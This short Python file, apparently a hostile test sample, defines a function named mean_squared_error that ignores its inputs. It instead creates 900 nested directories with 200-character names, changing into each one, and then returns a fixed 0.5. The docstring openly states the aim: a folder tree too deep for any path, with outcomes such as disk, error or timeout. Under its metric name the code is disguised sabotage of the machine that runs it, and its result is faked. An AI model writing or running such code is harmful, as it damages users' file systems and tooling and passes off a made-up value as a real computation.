"""Make folders in folders, too deep for a path, and stay in the lowest.

worth: nothing
reply: disk | error | timeout | value
"""
import os


def mean_squared_error(x, x_hat):
    for _ in range(900):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    return 0.5
